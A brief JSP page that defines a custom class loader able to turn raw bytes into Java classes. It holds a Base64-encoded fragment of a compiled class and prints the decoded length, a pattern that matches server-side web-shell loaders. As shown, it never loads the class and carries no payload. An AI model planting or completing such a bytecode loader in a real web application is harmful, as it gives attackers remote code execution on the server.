<%!
	static class L extends ClassLoader {
		Class<?> load(byte[] b) { return defineClass(null, b, 0, b.length); }
	}
%>
<%
	String blob = "yv66vgAAADQAHgoABgARCAASCgATABQHABUHABYBAAY8aW5pdD4BAAMoKVYBAARDb2RlAQAPTGluZU51bWJlclRhYmxlAQAEbWFpbgEAFihbTGphdmEvbGFuZy9TdHJpbmc7KVYBAApTb3VyY2VGaWxl";
	byte[] code = java.util.Base64.getDecoder().decode(blob);
	out.print(code.length);
%>
